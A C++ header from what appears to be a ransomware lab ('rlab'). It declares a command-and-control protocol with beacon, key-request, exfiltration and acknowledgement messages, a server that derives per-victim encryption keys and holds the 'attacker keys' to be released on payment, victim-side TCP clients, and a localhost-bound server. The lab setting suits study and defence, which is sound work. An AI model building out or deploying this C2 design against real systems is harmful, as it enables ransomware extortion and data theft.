#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "rlab/bytes.hpp"
#include "rlab/crypto.hpp"

namespace rlab {

enum class C2MessageType : std::uint8_t {
    BEACON = 0,
    KEY_REQUEST = 1,
    KEY_RESPONSE = 2,
    EXFIL = 3,
    ACK = 4,
};

inline constexpr std::uint8_t kMaxC2MessageType = 4;

std::string_view to_string(C2MessageType t);

struct C2Message {
    C2MessageType type = C2MessageType::BEACON;
    Bytes payload;

    bool operator==(const C2Message&) const = default;
};

/// Frame: u32 big-endian payload length | u8 type | payload.
Bytes encode_message(const C2Message& msg);
/// Exactly one frame. Truncated or over-long input throws FrameError; an
/// unknown type octet throws ProtocolError.
C2Message decode_message(ByteView frame);
/// Streaming form: returns nullopt while `buffer` holds less than a full
/// frame, otherwise the message and the octets it occupied.
std::optional<C2Message> try_decode_frame(ByteView buffer, std::size_t& consumed);

enum class KeyScheme : std::uint8_t { Symmetric = 0, AsymmetricPublic = 1 };

/// KEY_REQUEST payload: u16 sample_id length | sample_id | u8 scheme.
Bytes encode_key_request(std::string_view sample_id, KeyScheme scheme);

/// Everything the C2 issued to one sample. Only the server side holds the
/// private halves.
struct IssuedKeys {
    std::optional<SymKey> sym;
    std::optional<AsymKeyPair> pair;
};

class C2State {
public:
    explicit C2State(std::uint64_t seed) : seed_(seed) {}

    /// KEY_REQUEST -> KEY_RESPONSE, EXFIL -> ACK, BEACON -> ACK.
    /// Anything else, or an unknown key scheme, throws ProtocolError.
    C2Message handle(const C2Message& msg);

    const std::map<std::string, IssuedKeys>& issued_keys() const noexcept { return issued_; }
    const std::vector<CipherBlob>& received_blobs() const noexcept { return received_; }
    std::size_t beacon_count() const noexcept { return beacons_; }
    std::uint64_t seed() const noexcept { return seed_; }

    /// Deterministic in (seed, sample_id, scheme); independent of request order.
    static SymKey derive_symmetric(std::uint64_t seed, std::string_view sample_id);
    static AsymKeyPair derive_pair(std::uint64_t seed, std::string_view sample_id);

    /// Secret material the attacker could release on payment.
    Keyring attacker_keys() const;

private:
    std::uint64_t seed_;
    std::map<std::string, IssuedKeys> issued_;
    std::vector<CipherBlob> received_;
    std::size_t beacons_ = 0;
};

inline C2Message c2_handle(C2State& state, const C2Message& msg) { return state.handle(msg); }

/// Victim-side view of a C2 server.
class C2Endpoint {
public:
    virtual ~C2Endpoint() = default;
    virtual C2Message exchange(const C2Message& request) = 0;
};

/// Routes every message through the wire encoding and into a local C2State.
class InProcEndpoint final : public C2Endpoint {
public:
    explicit InProcEndpoint(C2State& state) : state_(state) {}
    C2Message exchange(const C2Message& request) override;

private:
    C2State& state_;
};

/// Blocking TCP client. Connects lazily on the first exchange; connection
/// failures throw FrameError.
class TcpEndpoint final : public C2Endpoint {
public:
    TcpEndpoint(std::string host, std::uint16_t port);
    ~TcpEndpoint() override;
    TcpEndpoint(const TcpEndpoint&) = delete;
    TcpEndpoint& operator=(const TcpEndpoint&) = delete;

    C2Message exchange(const C2Message& request) override;

private:
    void connect_once();

    std::string host_;
    std::uint16_t port_;
    int fd_ = -1;
    Bytes pending_;
};

/// Parses "host:port". Throws ConfigError.
std::pair<std::string, std::uint16_t> parse_c2_address(std::string_view addr);

/// Serves connections one at a time on 127.0.0.1:port (0 picks a free
/// port). `on_listening` receives the bound port. Returns after
/// `max_connections` connections have closed; 0 means serve forever.
void serve_tcp(C2State& state, std::uint16_t port, std::size_t max_connections,
               const std::function<void(std::uint16_t)>& on_listening = {});

}  // namespace rlab
